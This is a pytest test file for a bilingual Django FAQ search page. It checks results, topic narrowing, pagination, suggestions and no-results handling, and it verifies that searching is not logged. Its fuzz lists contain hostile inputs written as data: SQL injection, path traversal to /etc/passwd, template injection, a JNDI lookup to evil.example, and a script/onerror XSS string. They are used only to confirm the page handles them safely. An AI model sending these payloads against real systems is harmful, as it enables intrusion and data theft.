"""The results page: what is found, narrowed and turned over; and what is said when nothing is."""

from urllib.parse import parse_qs, urlsplit

import pytest

from knowledge.models import SearchEvent, Topic
from tests import factories
from tests.knowledge.reading import read

pytestmark = pytest.mark.django_db

ODD = [
    "",
    "   ",
    "?",
    "*",
    "a AND (b OR",
    'question:"x" NOT [a TO z]',
    "' OR 1=1 --",
    "%_%",
    "\0\x01\x1f",
    "\u202eters",
    "🏳️‍🌈 e\u0301",
    "İIıi ŞŞ",
    "\ud7ff\uffff",
    "kurul " * 5_000,
    "k" * 10_000,
    "../../etc/passwd",
    "{{ 7*7 }} {% load x %}",
    "${jndi:ldap://evil.example}",
]
WICKED = "\"><script>alert(1)</script><img src=x onerror=alert(1)>'"


@pytest.fixture
def other_topic():
    return Topic.objects.create(slug="foundations", name_tr="Vakıflar", name_en="Foundations", order=2)


def found(client, **query: object) -> list[str]:
    """The slugs of the entries on the results page, in order."""
    links = read(client.get("/tr/search/", query)).links
    return [link.split("/")[4] for link in links if "/faq/" in link and link.count("/") == 5]


def publish_many(expert, editor, topic, count: int) -> list[str]:
    texts = [factories.publish(expert, editor, topic, question=f"Genel kurul {n}. soru?") for n in range(count)]
    return [text.slug for text in texts]


def test_results_show_the_question_its_passage_and_where_it_belongs(client, expert, editor, topic):
    text = factories.publish(expert, editor, topic)
    factories.publish(expert, editor, topic, question="Aidat nasıl toplanır?", summary="Tüzük yazar.", answer="Yazar.")

    page = read(client.get("/tr/search/?q=genel+kurul"))

    assert found(client, q="genel kurul") == [text.slug]
    assert {word.lower() for word in page.texts("mark")} == {"genel", "kurul"}
    assert "Dernekler" in page.texts("li")
    assert page.value("q") == "genel kurul"


def test_what_is_in_the_other_language_only_is_found_and_marked(client, expert, editor, topic):
    text = factories.publish(expert, editor, topic)

    page = read(client.get("/en/search/?q=genel+kurul"))

    offered = [found for found in page.all("a") if found["href"].partition("?")[0] == text.get_absolute_url()]
    assert [(found["lang"], found["hreflang"]) for found in offered] == [("tr", "tr")]


def test_results_can_be_narrowed_to_a_topic_and_widened_again(client, expert, editor, topic, other_topic):
    here, there = (
        factories.publish(expert, editor, one, question=f"Genel kurul {one}?") for one in (topic, other_topic)
    )

    page = read(client.get("/tr/search/?q=genel+kurul&page=1"))

    facets = [parse_qs(urlsplit(link).query) for link in page.links if link.startswith("?")]
    assert [facet.get("topic") for facet in facets] == [None, ["associations"], ["foundations"]]
    assert all(facet["q"] == ["genel kurul"] for facet in facets)
    assert found(client, q="genel kurul", topic="associations") == [here.slug]
    assert found(client, q="genel kurul", topic="foundations") == [there.slug]
    assert found(client, q="genel kurul", topic="no-such-topic") == []
    assert (
        len(read(client.get("/tr/search/?q=genel+kurul&topic=foundations")).all("a", **{"aria-current": "true"})) == 1
    )


def test_a_topic_includes_its_subtopics(client, expert, editor, topic):
    below = Topic.objects.create(slug="organs", parent=topic, name_tr="Organlar", name_en="Organs", order=2)
    text = factories.publish(expert, editor, below)

    assert found(client, q="genel kurul", topic="associations") == [text.slug]


def test_results_are_turned_over_ten_at_a_time_and_none_is_lost_or_shown_twice(client, expert, editor, topic):
    slugs = publish_many(expert, editor, topic, 23)

    pages = [found(client, q="genel kurul", page=number) for number in (1, 2, 3)]

    assert [len(page) for page in pages] == [10, 10, 3]
    assert sorted(sum(pages, [])) == sorted(slugs)
    first = read(client.get("/tr/search/?q=genel+kurul"))
    assert [parse_qs(urlsplit(found["href"]).query)["page"] for found in first.all("a", rel="next")] == [["2"]]
    assert first.all("a", rel="prev") == []


@pytest.mark.parametrize("number", ["4", "50", "51", "999999", "99999999999999999999"])
def test_behind_the_last_page_stands_the_last_page(client, expert, editor, topic, number):
    publish_many(expert, editor, topic, 12)

    assert found(client, q="genel kurul", page=number) == found(client, q="genel kurul", page=2)
    assert len(found(client, q="genel kurul", page=2)) == 2


@pytest.mark.parametrize("number", ["0", "-1", "one", "", "1.5", "²", "\0"])
def test_a_page_number_that_is_none_means_the_first_page(client, expert, editor, topic, number):
    publish_many(expert, editor, topic, 12)

    assert found(client, q="genel kurul", page=number) == found(client, q="genel kurul", page=1)


@pytest.mark.parametrize("language", ["tr", "en"])
def test_where_nothing_is_found_the_question_can_be_asked_as_it_was_typed(client, topic, language):
    query = 'Zürafa & co. için %50 + "vergi" <b>?'

    page = read(client.get(f"/{language}/search/", {"q": query}))

    invitations = [link for link in page.links if link.startswith(f"/{language}/ask/?")]
    assert [parse_qs(urlsplit(link).query) for link in invitations] == [{"q": [query]}]
    assert f"/{language}/faq/" in page.links
    assert read(client.get(invitations[0])).value("subject") == query


def test_a_misspelt_word_is_offered_as_it_is_written_here(client, expert, editor, topic):
    factories.publish(expert, editor, topic)

    page = read(client.get("/tr/search/?q=genel+kurrul"))

    offered = [link for link in page.links if link.startswith("/tr/search/?q=")]
    assert [parse_qs(urlsplit(link).query)["q"] for link in offered] == [["genel kurul"]]


def test_an_empty_search_asks_for_words_and_leads_to_the_topics(client, topic):
    page = read(client.get("/tr/search/"))

    assert "/tr/faq/" in page.links
    assert page.value("q") == ""


@pytest.mark.parametrize("query", ODD, ids=range(len(ODD)))
@pytest.mark.parametrize("path", ["/tr/search/", "/en/search/suggestions/"])
def test_odd_words_are_answered_and_never_an_error(client, expert, editor, topic, path, query):
    factories.publish(expert, editor, topic)

    response = client.get(path, {"q": query, "topic": query[:300], "page": query[:300]})

    assert response.status_code == 200
    assert len(read(response).value("q") or "") <= 200


@pytest.mark.parametrize("path", ["/tr/search/", "/en/search/", "/tr/search/suggestions/"])
def test_what_is_looked_for_is_inert_on_the_page(client, expert, editor, topic, path):
    factories.publish(expert, editor, topic, question=f"Genel kurul {WICKED}")

    for query in (WICKED, f"genel kurul {WICKED}", "genel kurul"):
        page = read(client.get(path, {"q": query, "topic": WICKED}))
        assert page.all("img") == []
        assert page.running == []
        assert [name for _tag, found in page.tags for name in found if name.startswith("on")] == []


def test_suggestions_are_at_most_five_and_lead_to_the_entries(client, expert, editor, topic):
    slugs = publish_many(expert, editor, topic, 7)

    links = read(client.get("/tr/search/suggestions/?q=genel+ku")).links

    assert len(links) == 5
    assert {link.split("/")[4] for link in links} <= set(slugs)
    assert read(client.get("/tr/search/suggestions/?q=g")).links == []


def test_a_page_of_results_names_itself_in_the_other_language_with_the_same_words(client, topic):
    page = read(client.get("/tr/search/", {"q": "a&b", "topic": "associations"}))

    links = [link for link in page.links if link.startswith("/en/search/")]
    assert [parse_qs(urlsplit(link).query) for link in links] == [{"q": ["a&b"], "topic": ["associations"]}]


def test_searching_keeps_no_record_of_who_searched(client, expert, editor, topic, django_assert_num_queries):
    factories.publish(expert, editor, topic)

    client.get("/tr/search/?q=ayse@example.org+genel+kurul")

    assert SearchEvent.objects.count() == 0
    assert client.cookies == {}
